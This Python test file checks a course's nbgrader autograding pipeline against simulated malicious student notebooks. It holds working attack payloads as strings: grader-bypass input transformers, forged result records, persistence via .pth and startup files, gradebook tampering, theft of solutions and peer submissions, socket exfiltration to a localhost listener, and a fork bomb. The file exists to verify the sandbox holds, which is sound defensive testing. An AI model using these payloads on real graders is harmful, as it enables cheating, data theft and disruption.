"""Deliberate students, graded by the real pipeline: nobody gains a point.

ONE batch on problem set 1 (the cheapest to grade), graded by ``backprop-lab grade --jobs 2``
(nbgrader's Autograde in parallel sandboxes), then ``nbgrader generate_feedback`` and
``nbgrader export``.  Student ids sort the attackers first and two victims last; attacks
that cannot interfere share a student (``class_submissions(merged=False)`` gives one
student per attack, as used for the per-attack scores in assignments/README.md).

    a_shadow      a ``backprop_lab/`` folder handed in beside the notebook (it would shadow
                  the installed package and its grading module)
    a_transform   an IPython input transformer turns every later cell mentioning grading
                  into ``pass``
    a_forge       the test cells rewritten to print "pass" and a forged hidden-results record
    a_partial     the test cells rewritten to end in a value (nbgrader reads a test cell's
                  result as its partial score, and anything but a number as full marks)
    a_settrace    ``sys.settrace`` rewrites the checks' local variables (messages, verdict)
    a_replay      part 1 honest; every later test cell replays part 1's hidden results
    a_persist     appends "everything passes" to the installed grading modules, drops a
                  ``.pth`` into site-packages and an IPython startup file into the home
    a_snoop       extra credit for everyone in ``gradebook.db``, prints ``source/`` and the
                  other students' submissions, sends data over the network, prints the
                  grader's environment, leaves files in /tmp, the working folder and home
    a_dos         full solution + a fork bomb whose children escape with setsid, 40 MB in one
                  line and a flood of output, a kill of the kernel's parent
    a_libref      full solution, but part 1's backward calls the library's reference gate
    h_exit        full solution, ``exit()`` at the end of answer 1          (honest side)
    h_timer       full solution, a timer calling ``os._exit`` 0.3 s after answer 2
    h_deaf        full solution, answer 3 ignores SIGINT and loops forever
    z_release     the untouched release (victim: must still score 0)
    z_full        the full solution (victim: must still score everything)
"""
from __future__ import annotations

import copy
import fcntl
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[1]
ASSIGNMENTS = ROOT / "assignments"
sys.path.insert(0, str(ASSIGNMENTS))
import build_assignments as builder  # noqa: E402

NBGRADER = Path(sys.executable).with_name("nbgrader")
BACKPROP_LAB = Path(sys.executable).with_name("backprop-lab")
PS = "ps1_gates"
TIMEOUT = 10                     # seconds per cell (the shipped config says 30)
MARKER = "backprop-lab-attack"   # every file or process an attack leaves carries this
SECRET = "grader-secret-" + uuid.uuid4().hex[:12]
RECORD_MIME = "application/vnd.backprop-lab.hidden-results+json"

# ------------------------------------------------------------------ attack payloads
# Each is Python code put at the top (or end) of an answer cell of the release notebook.
SKIP_GRADING = '''\
def _skip_grading(lines):
    return ["pass\\n"] if any("grading" in line for line in lines) else lines
'''

TRANSFORM = SKIP_GRADING + "get_ipython().input_transformers_cleanup.append(_skip_grading)\n"

FORGE = f'''\
import re as _re
from IPython.display import publish_display_data as _publish
def _forge(lines):
    text = "".join(lines)
    if "verify_isolated" not in text:
        return lines
    task = _re.search(r"check\\((['\\"])([\\w.]+)\\1", text).group(2)
    record = {{"task": task, "passed": True, "attestation": "0" * 64}}
    return [f"print({{task!r}} + ': the worked examples pass.')\\n",
            f"print({{task!r}} + ': hidden tests pass.')\\n",
            f"_publish({{{{{RECORD_MIME!r}: {{record!r}}, 'text/plain': 'attested'}}}})\\n"]
get_ipython().input_transformers_cleanup.append(_forge)
'''

PARTIAL = '''\
def _score_myself(lines):
    return ["'all tests passed'\\n"] if any("verify_isolated" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(_score_myself)
'''

REPLAY = f'''\
_records = []
_publisher = get_ipython().display_pub
_publish = _publisher.publish
def _capture(data, *args, **kwargs):
    if {RECORD_MIME!r} in data:
        _records.append(data)
    return _publish(data, *args, **kwargs)
_publisher.publish = _capture
def _replay(lines):
    if "verify_isolated" in "".join(lines) and _records:
        return ["get_ipython().display_pub.publish(_records[0])\\n"]
    return lines
get_ipython().input_transformers_cleanup.append(_replay)
'''

SETTRACE = '''\
import sys as _sys
def _local(frame, event, arg):
    if event == "line":
        if frame.f_code.co_name == "check" and "messages" in frame.f_locals:
            frame.f_locals["messages"] = []
        if isinstance(frame.f_locals.get("verdict"), dict):
            frame.f_locals["verdict"] = {"passed": True, "messages": []}
    return _local
def _tracer(frame, event, arg):
    return _local if frame.f_code.co_name in ("check", "verify_isolated") else None
_sys.settrace(_tracer)
'''

FIND_PACKAGE = '''\
import os as _os, sys as _sys
_spec = next(_s for _s in (_f.find_spec("backprop_lab", None) for _f in _sys.meta_path
                           if hasattr(_f, "find_spec")) if _s is not None)
_package_dir = list(_spec.submodule_search_locations)[0]
'''

PERSIST = FIND_PACKAGE + f'''\
for _root, _dirs, _files in _os.walk(_package_dir):
    for _name in _files:
        _path = _os.path.join(_root, _name)
        if _name.endswith(".py") and "grading" in _path:
            try:
                with open(_path, "a") as _f:
                    _f.write("\\ncheck = verify_isolated = (lambda *a, **k: None)  # {MARKER}\\n")
                print("appended to", _path)
            except OSError as _error:
                print("blocked:", _error)
'''

# a .pth line runs in every later Python of that environment: it waits for an IPython
# shell and installs the skip-grading transformer in it
PTH_LINE = ("import threading, sys, time; threading.Thread(daemon=True, target=lambda: [("
            "time.sleep(0.05), sys.modules.get('IPython') and sys.modules['IPython'].get_ipython() "
            "and sys.modules['IPython'].get_ipython().input_transformers_cleanup.append("
            "lambda L: ['pass\\n'] if any('grading' in l for l in L) else L)) for _ in range(200)]"
            f").start()  # {MARKER}\n")

PTH = f'''\
import site as _site, os as _os
for _dir in [*_site.getsitepackages(), _site.getusersitepackages()]:
    try:
        _os.makedirs(_dir, exist_ok=True)
        with open(_os.path.join(_dir, "zz_{MARKER}.pth"), "w") as _f:
            _f.write({PTH_LINE!r})
        print("wrote a .pth into", _dir)
    except OSError as _error:
        print("blocked:", _error)
'''

STARTUP = f'''\
import os as _os
_dir = _os.path.join(_os.environ.get("IPYTHONDIR") or _os.path.expanduser("~/.ipython"),
                     "profile_default", "startup")
try:
    _os.makedirs(_dir, exist_ok=True)
    with open(_os.path.join(_dir, "00-{MARKER}.py"), "w") as _f:
        _f.write({TRANSFORM!r})
    print("wrote a startup file into", _dir)
except OSError as _error:
    print("blocked:", _error)
'''

WALK_UP = '''\
import os as _os
def _up(name):
    """Every path called `name` in the folders above the working folder (and their children)."""
    found, here = [], _os.path.abspath(".")
    for _ in range(8):
        for entry in (_os.path.join(here, name), *(_os.path.join(here, d, name)
                      for d in (_os.listdir(here) if _os.access(here, _os.R_OK) else []))):
            if _os.path.exists(entry) and entry not in found:
                found.append(entry)
        here = _os.path.dirname(here)
    return found
'''

GRADEBOOK = WALK_UP + '''\
import sqlite3 as _sqlite3
for _db in _up("gradebook.db"):
    try:
        with _sqlite3.connect(_db) as _connection:
            _rows = _connection.execute("UPDATE grade SET extra_credit = 7").rowcount
        print("extra credit for", _rows, "grades in", _db)
    except Exception as _error:
        print("blocked:", _error)
print("gradebooks found:", _up("gradebook.db"))
'''

SOURCE = WALK_UP + '''\
import glob as _glob
for _folder in _up("source"):
    for _path in _glob.glob(_os.path.join(_folder, "*", "*.ipynb")):
        print("=== stolen", _path)
        print(open(_path).read())
print("source folders found:", _up("source"))
'''

OTHERS = WALK_UP + '''\
import glob as _glob
for _folder in _up("submitted") + _up("autograded"):
    for _path in _glob.glob(_os.path.join(_folder, "*", "*", "*.ipynb")):
        print("=== copied", _path)
        print(open(_path).read()[:20000])
'''

EXFIL = '''\
import os as _os, socket as _socket
try:
    with _socket.create_connection(("127.0.0.1", {port}), timeout=3) as _connection:
        _connection.sendall(b"exfiltrated")
    print("connected")
except OSError as _error:
    print("blocked:", _error)
print(dict(_os.environ))
'''

TMP = f'''\
import os as _os
for _path in ("/tmp/{MARKER}-{{tag}}", "{MARKER}-cwd", _os.path.expanduser("~/{MARKER}-home")):
    try:
        with open(_path, "w") as _f:
            _f.write("left behind")
        print("wrote", _os.path.abspath(_path))
    except OSError as _error:
        print("blocked:", _error)
'''

KILL_PARENT = '''
import os as _os, signal as _signal
for _pid in {int(_os.environ.get("JPY_PARENT_PID") or 0), _os.getppid()} - {0}:
    try:
        _os.kill(_pid, _signal.SIGKILL)
    except OSError as _error:
        print("blocked:", _error)
'''

# children that escape the kernel's process group and would outlive the grading; they
# only sleep (this must stay harmless on a machine whose sandbox is broken)
FORKBOMB = f'''\
import os as _os, sys as _sys
_children = 0
for _ in range(400):
    try:
        _pid = _os.fork()
    except OSError as _error:
        print("fork refused after", _children, "children:", _error)
        break
    if _pid == 0:
        try:
            _os.setsid()
            _os.execv(_sys.executable, [_sys.executable, "-c", "import time; time.sleep(300)  # {MARKER}"])
        finally:
            _os._exit(0)
    _children += 1
print("children:", _children)
'''

SPAM = '''\
print("x" * 40_000_000)
for _i in range(2_000):
    print(_i, "y" * 10_000)
'''

EXIT = "\nexit()\n"
TIMER = "\nimport os as _os, threading as _threading\n_threading.Timer(0.3, _os._exit, (1,)).start()\n"
DEAF = ("import signal as _signal\n_signal.signal(_signal.SIGINT, _signal.SIG_IGN)\n"
        "while True:\n    try:\n        pass\n    except BaseException:\n        pass\n")

# the library's reference gate, called inside the student's own class: passes every test,
# flagged for the instructor with the line
LIBREF_ANSWER = '''\
class MultiplyGate(Gate):
    """z = x * y."""

    symbol = "×"

    def forward(self, x, y):
        self.save(x, y)
        return x * y

    def backward(self, upstream):
        x, y = self.saved()
        reference = bl.gates.MultiplyGate()
        reference.forward(x, y)
        return reference.backward(upstream)
'''

SHADOW_INIT = '''\
"""A fake backprop_lab: the real package, except for its grading module."""
import importlib.util, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
for _finder in sys.meta_path:
    _spec = getattr(_finder, "find_spec", None) and _finder.find_spec(
        "backprop_lab", [p for p in sys.path if os.path.abspath(p or ".") != os.path.dirname(_here)])
    if _spec and _spec.submodule_search_locations and \\
            os.path.abspath(list(_spec.submodule_search_locations)[0]) != _here:
        break
_real = os.path.abspath(list(_spec.submodule_search_locations)[0])
__path__.append(_real)
exec(compile(open(os.path.join(_real, "__init__.py")).read(), os.path.join(_real, "__init__.py"), "exec"))
'''

SHADOW_GRADING = '''\
"""Every check passes."""
import os
def check(*args, **kwargs):
    print("the worked examples pass.")
def verify_isolated(*args, **kwargs):
    print("hidden tests pass.")
def interactive():
    return False
def show(*args, **kwargs):
    pass
'''


# ------------------------------------------------------------------ the class
def cells_by_id(nb) -> dict:
    return {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells if "nbgrader" in c.metadata}


def prepend(nb, grade_id: str, code: str) -> None:
    cell = cells_by_id(nb)[grade_id]
    cell.source = code + "\n" + cell.source


def append(nb, grade_id: str, code: str) -> None:
    cell = cells_by_id(nb)[grade_id]
    cell.source = cell.source + "\n" + code


def with_answers(release_nb, source_nb, grade_ids) -> nbformat.NotebookNode:
    nb = copy.deepcopy(release_nb)
    source = cells_by_id(source_nb)
    for grade_id in grade_ids:
        cells_by_id(nb)[grade_id].source = source[grade_id].source
    return nb


def class_submissions(ps, source_nb, release_nb, *, port: int, merged: bool = True) -> dict:
    """{student: (notebook, {relative path: text of an extra file handed in})}.

    ``merged``: attacks that cannot interfere with each other share a student (fewer kernels
    to start in the test); otherwise every attack is a student of its own."""
    parts = ps.parts
    first = parts[0].answer_ids[0]
    full = lambda: copy.deepcopy(source_nb)          # noqa: E731
    release = lambda: copy.deepcopy(release_nb)      # noqa: E731
    subs: dict = {}

    subs["a_shadow"] = (release(), {"backprop_lab/__init__.py": SHADOW_INIT,
                                    "backprop_lab/grading.py": SHADOW_GRADING})
    groups = {"a_transform": [TRANSFORM], "a_forge": [FORGE], "a_partial": [PARTIAL],
              "a_settrace": [SETTRACE],
              "a_persist": [PERSIST, PTH, STARTUP],
              "a_snoop": [GRADEBOOK, SOURCE, OTHERS, EXFIL.format(port=port), TMP.format(tag="x")]}
    if not merged:
        names = {"a_persist": ["a_persist", "a_pth", "a_startup"],
                 "a_snoop": ["a_gradebook", "a_source", "a_others", "a_exfil", "a_tmp"]}
        groups = {new: [payload] for name, payloads in groups.items()
                  for new, payload in zip(names.get(name, [name]), payloads)}
    for name, payloads in groups.items():
        nb = release()
        prepend(nb, first, "\n".join(payloads))
        subs[name] = (nb, {})

    replay = with_answers(release_nb, source_nb, parts[0].answer_ids)
    prepend(replay, first, REPLAY)
    subs["a_replay"] = (replay, {})

    dos = {"a_killparent": (parts[-1].answer_ids[0], KILL_PARENT, append),
           "a_forkbomb": (first, FORKBOMB, prepend),
           "a_spam": (parts[1].answer_ids[0], SPAM, prepend)}
    if merged:
        nb = full()
        for cell_id, payload, put in dos.values():
            put(nb, cell_id, payload)
        subs["a_dos"] = (nb, {})
    else:
        for name, (cell_id, payload, put) in dos.items():
            nb = full()
            put(nb, cell_id, payload)
            subs[name] = (nb, {})
    libref = full()
    cells_by_id(libref)[first].source = LIBREF_ANSWER
    subs["a_libref"] = (libref, {})

    exit_nb = full()
    append(exit_nb, first, EXIT)
    subs["h_exit"] = (exit_nb, {})
    timer = full()
    append(timer, parts[1].answer_ids[0], TIMER)
    subs["h_timer"] = (timer, {})
    deaf = full()
    prepend(deaf, parts[2].answer_ids[0], DEAF)
    subs["h_deaf"] = (deaf, {})

    subs["z_release"] = (release(), {})
    subs["z_full"] = (full(), {})
    return subs


# ------------------------------------------------------------------ running the batch
def nbgrader(course: Path, env: dict, *args: str, check: bool = True) -> subprocess.CompletedProcess:
    result = subprocess.run([str(NBGRADER), *args], cwd=course, capture_output=True, text=True,
                            timeout=1500, env=env)
    if check and result.returncode != 0:
        raise AssertionError(f"nbgrader {' '.join(args)} failed ({result.returncode}):\n"
                             f"{result.stdout[-3000:]}\n{result.stderr[-3000:]}")
    return result


def fingerprint(paths) -> dict:
    """(size, mtime, ctime) of every file under the given folders: any write changes the
    ctime, which no one but the kernel sets (os.utime cannot put it back)."""
    found = {}
    for top in paths:
        for root, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d != "__pycache__"]
            for name in files:
                path = os.path.join(root, name)
                try:
                    st = os.stat(path)
                    found[path] = [st.st_size, st.st_mtime_ns, st.st_ctime_ns]
                except OSError:
                    found[path] = None
    return found


def environment_folders() -> list:
    import site

    import backprop_lab
    return sorted({*site.getsitepackages(), os.path.dirname(backprop_lab.__file__)})


def attack_processes() -> list:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
            except OSError:
                continue
            if MARKER.encode() in cmdline and b"pytest" not in cmdline:
                pids.append(int(entry))
    return pids


class Listener:
    """A TCP server on localhost that records every connection (the exfiltration target)."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(100).decode(errors="replace"))
                except OSError:
                    self.received.append("")

    def close(self):
        self.server.close()


def run_batch(course: Path) -> dict:
    ps = builder.PROBLEM_SETS[PS]
    course.mkdir(parents=True)
    home = course.parent / "home"
    home.mkdir()
    env = dict(os.environ, HOME=str(home), BACKPROP_LAB_TEST_SECRET=SECRET,
               PATH=f"{NBGRADER.parent}{os.pathsep}{os.environ.get('PATH', '')}")
    env.pop("IPYTHONDIR", None)
    shutil.copy(ASSIGNMENTS / "nbgrader_config.py", course)
    shutil.copytree(ASSIGNMENTS / "source" / PS, course / "source" / PS)
    nbgrader(course, env, "generate_assignment", PS, "--force")
    nb_name = f"{PS}.ipynb"
    source_nb = nbformat.read(course / "source" / PS / nb_name, as_version=4)
    release_nb = nbformat.read(course / "release" / PS / nb_name, as_version=4)

    listener = Listener()
    before = fingerprint(environment_folders())
    try:
        subs = class_submissions(ps, source_nb, release_nb, port=listener.port)
        for student, (nb, files) in subs.items():
            folder = course / "submitted" / student / PS
            folder.mkdir(parents=True)
            nbformat.write(nb, folder / nb_name)
            (folder / "timestamp.txt").write_text("2026-11-26 06:00:00.000000 UTC")
            for relative, text in files.items():
                (folder / relative).parent.mkdir(parents=True, exist_ok=True)
                (folder / relative).write_text(text)
        autograde = subprocess.run([str(BACKPROP_LAB), "grade", PS, "--jobs", "2",
                                    "--timeout", str(TIMEOUT)], cwd=course, capture_output=True,
                                   text=True, timeout=1500, env=env)
        feedback = nbgrader(course, env, "generate_feedback", PS, "--force", check=False)
        nbgrader(course, env, "export", check=False)
    finally:
        listener.close()
        after = fingerprint(environment_folders())
        changed = sorted(p for p in set(before) | set(after) if before.get(p) != after.get(p))
        survivors = attack_processes()
        for pid in survivors:               # never leave an attack running on the machine
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        restore_environment(before, changed)

    from nbgrader.api import Gradebook, MissingEntry
    scores, extra_credit = {}, []
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for student in subs:
            try:
                nb = gb.find_submission_notebook(PS, PS, student)
            except MissingEntry:
                scores[student] = None
                continue
            cells = {p.test_id: gb.find_grade(p.test_id, PS, PS, student).score for p in ps.parts}
            scores[student] = {"code": nb.code_score, "total": nb.score, "cells": cells,
                               "flagged": bool(nb.flagged)}
            extra_credit += [g.extra_credit for g in nb.grades if g.extra_credit]
        students = sorted(s.id for s in gb.students)
    return {"course": str(course), "home": str(home), "scores": scores, "students": students,
            "extra_credit": extra_credit, "changed": changed, "survivors": survivors,
            "received": listener.received,
            "autograde_log": autograde.stdout + autograde.stderr, "autograde_rc": autograde.returncode,
            "feedback_rc": feedback.returncode}


def restore_environment(before: dict, changed: list) -> None:
    """Undo what a persistence attack did to the environment (only if the sandbox failed)."""
    for path in changed:
        if before.get(path) is None and os.path.exists(path) and MARKER in Path(path).name:
            os.remove(path)
        elif before.get(path) is not None and os.path.exists(path):
            text = Path(path).read_text(errors="replace")
            if MARKER in text:
                lines = [line for line in text.splitlines(keepends=True) if MARKER not in line]
                Path(path).write_text("".join(lines).rstrip("\n") + "\n")


_RESULT: dict = {}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    if _RESULT:
        return _RESULT
    base = tmp_path_factory.getbasetemp()
    shared = (base.parent if os.environ.get("PYTEST_XDIST_WORKER") else base) / "attack-course"
    shared.mkdir(exist_ok=True)
    result_file = shared / "result.json"
    with open(shared / "lock", "w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        if not result_file.exists():
            result_file.write_text(json.dumps(run_batch(shared / "course")))
    _RESULT.update(json.loads(result_file.read_text()))
    return _RESULT


def autograded(result: dict, student: str):
    path = Path(result["course"]) / "autograded" / student / PS / f"{PS}.ipynb"
    return nbformat.read(path, as_version=4)


def output_text(nb) -> str:
    return json.dumps([c.get("outputs", []) for c in nb.cells])


def expected_code_score(broken: set) -> int:
    return sum(p.points for p in builder.PROBLEM_SETS[PS].parts if not p.relies_on() & broken)


ATTACKERS = ["a_shadow", "a_transform", "a_forge", "a_partial", "a_settrace", "a_persist",
             "a_snoop"]


# ------------------------------------------------------------------ the tests
@pytest.mark.slow
def test_every_student_is_graded(batch):
    missing = [s for s, score in batch["scores"].items() if score is None]
    assert not missing, batch["autograde_log"][-4000:]


@pytest.mark.slow
@pytest.mark.parametrize("student", ATTACKERS)
def test_attack_gains_nothing(batch, student):
    score = batch["scores"][student]
    assert score is not None, f"{student} was not graded"
    assert score["total"] == 0, (student, score)


@pytest.mark.slow
def test_replaying_a_hidden_record_gains_nothing(batch):
    score = batch["scores"]["a_replay"]
    part1 = builder.PROBLEM_SETS[PS].parts[0]
    assert score["code"] == part1.points, score          # only the honest part


@pytest.mark.slow
def test_victims_graded_after_the_attacks_are_unaffected(batch):
    scores, ps = batch["scores"], builder.PROBLEM_SETS[PS]
    assert scores["z_release"]["total"] == 0
    assert scores["z_full"]["code"] == ps.auto_points


@pytest.mark.slow
def test_gradebook_holds_no_extra_credit_and_no_strangers(batch):
    assert batch["extra_credit"] == []
    assert batch["students"] == sorted(batch["scores"])


@pytest.mark.slow
def test_environment_and_machine_are_unchanged(batch):
    assert batch["changed"] == [], "the attacks changed the Python environment"
    assert batch["survivors"] == [], "processes started by a submission outlived the grading"
    assert not list(Path("/tmp").glob(f"{MARKER}*"))
    assert not list(Path(batch["home"]).rglob(f"*{MARKER}*"))
    assert batch["received"] == [], "a submission reached the network"


@pytest.mark.slow
def test_no_secret_reaches_any_output_or_feedback(batch):
    course = Path(batch["course"])
    source_nb = nbformat.read(str(course / "source" / PS / f"{PS}.ipynb"), as_version=4)
    solutions = [line.strip() for cell in source_nb.cells
                 for block in re.findall(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", cell.source, re.S)
                 for line in block.splitlines() if len(line.strip()) > 20]
    assert solutions
    for student in ATTACKERS:                     # their notebooks hold no solution
        texts = {"outputs": output_text(autograded(batch, student))}
        html = course / "feedback" / student / PS / f"{PS}.html"
        if html.exists():
            texts["feedback"] = html.read_text()
        for where, text in texts.items():
            assert SECRET not in text, (student, where)
            leaked = [line for line in solutions if line in text]
            assert not leaked, (student, where, leaked[:3])
        others = [s for s in batch["scores"] if s != student]
        assert not any(f"submitted/{other}/" in texts["outputs"] for other in others), student


@pytest.mark.slow
def test_denial_of_service_is_contained_and_costs_only_the_forking_part(batch):
    """Fork bomb, 40 MB of output, killing the parent: all contained; only the part whose
    cell forked is lost (that cell is left out, like a cell that kills its kernel)."""
    course = Path(batch["course"])
    first = builder.PROBLEM_SETS[PS].parts[0]
    assert batch["scores"]["a_dos"]["code"] == expected_code_score(set(first.answer_ids))
    notebook = course / "autograded" / "a_dos" / PS / f"{PS}.ipynb"
    assert notebook.stat().st_size < 3_000_000
    assert (course / "feedback" / "a_dos" / PS / f"{PS}.html").stat().st_size < 3_000_000
    text = output_text(autograded(batch, "a_dos"))
    children = int(re.search(r"fork refused after (\d+) children", text).group(1))
    assert children < 200
    assert "ForkBombError" in text and "[output cut" in text


@pytest.mark.slow
def test_calling_the_library_reference_is_flagged_with_the_line(batch):
    score = batch["scores"]["a_libref"]
    assert score["flagged"]
    from nbgrader.api import Gradebook
    first = builder.PROBLEM_SETS[PS].parts[0].answer_ids[0]
    with Gradebook(f"sqlite:///{Path(batch['course']) / 'gradebook.db'}") as gb:
        comment = gb.find_comment(first, PS, PS, "a_libref").comment
    assert "backprop_lab.gates.MultiplyGate" in comment and "line 12" in comment, comment


@pytest.mark.slow
def test_exit_at_the_end_of_an_answer_loses_only_that_part(batch):
    ps = builder.PROBLEM_SETS[PS]
    assert batch["scores"]["h_exit"]["code"] == expected_code_score(set(ps.parts[0].answer_ids))


@pytest.mark.slow
def test_a_timer_killing_the_kernel_later_loses_only_its_part(batch):
    ps = builder.PROBLEM_SETS[PS]
    assert batch["scores"]["h_timer"]["code"] == expected_code_score(set(ps.parts[1].answer_ids))


@pytest.mark.slow
def test_a_loop_deaf_to_interrupts_loses_only_its_part(batch):
    ps = builder.PROBLEM_SETS[PS]
    assert batch["scores"]["h_deaf"]["code"] == expected_code_score(set(ps.parts[2].answer_ids))
